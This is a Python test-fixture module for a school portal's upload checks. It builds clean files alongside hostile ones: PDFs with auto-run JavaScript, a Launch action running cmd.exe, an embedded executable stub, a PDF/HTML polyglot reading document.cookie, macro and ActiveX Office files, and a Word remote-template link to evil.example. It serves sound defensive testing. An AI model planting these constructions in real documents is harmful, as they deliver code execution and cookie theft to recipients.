"""Lesson pack files built in the tests: clean ones, and ones with active content a school must never be handed."""

from __future__ import annotations

import io
import zipfile

import pikepdf

from portal.domain.pdf import simple_pdf

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
POWERPOINT_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
EXCEL_MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
VBA_PROJECT = "application/vnd.ms-office.vbaProject"
REMOTE_TEMPLATE_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://evil.example/macros.dotm" TargetMode="External"/></Relationships>'
)


def clean_pdf() -> bytes:
    return simple_pdf("Spotting grooming", ["Lesson one: what grooming looks like."])


def pdf_with(change) -> bytes:
    """A one-page PDF made by pikepdf, after change(pdf) has added to it."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def javascript(code: str = "app.alert('hello')") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def open_action_javascript(pdf) -> None:
    pdf.Root.OpenAction = javascript()


def page_additional_action_javascript(pdf) -> None:
    # The action is an indirect object of its own: found however it is stored.
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pdf.make_indirect(javascript()))


def document_javascript_names(pdf) -> None:
    names = pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(javascript())])
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def launch_action(pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


def embedded_file(pdf) -> None:
    pdf.attachments["notes.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/octet-stream")


def benign_open_action(pdf) -> None:
    """Open at the first page: a destination, not code."""
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])


def html_polyglot() -> bytes:
    """A valid PDF that a browser shown it as a page would run as HTML."""
    return clean_pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<html><script>alert(document.cookie)</script>\n", 1)


def office_file(main_part: str, main_type: str, extra: dict[str, bytes | str] | None = None) -> bytes:
    """A minimal Office Open XML package: the content types, the main part and any extra parts."""
    overrides = f'<Override PartName="/{main_part}" ContentType="{main_type}"/>'
    if extra and any(name.endswith("vbaProject.bin") for name in extra):
        overrides += f'<Default Extension="bin" ContentType="{VBA_PROJECT}"/>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{overrides}</Types>',
        )
        archive.writestr(main_part, "<document/>")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def clean_docx() -> bytes:
    return office_file("word/document.xml", WORD_MAIN)


def docx_with_macros() -> bytes:
    return office_file("word/document.xml", WORD_MAIN, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"})


def docm_named_docx() -> bytes:
    """A macro-enabled document whose content type says so, even without the project part."""
    return office_file("word/document.xml", WORD_MACRO_MAIN)


def pptx_with_macros() -> bytes:
    return office_file("ppt/presentation.xml", POWERPOINT_MAIN, {"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"})


def xlsm() -> bytes:
    return office_file("xl/workbook.xml", EXCEL_MACRO_MAIN, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"})


def docx_with_activex() -> bytes:
    return office_file("word/document.xml", WORD_MAIN, {"word/activeX/activeX1.xml": "<ax:ocx/>"})


def docx_with_remote_template() -> bytes:
    return office_file("word/document.xml", WORD_MAIN, {"word/_rels/settings.xml.rels": REMOTE_TEMPLATE_RELS})
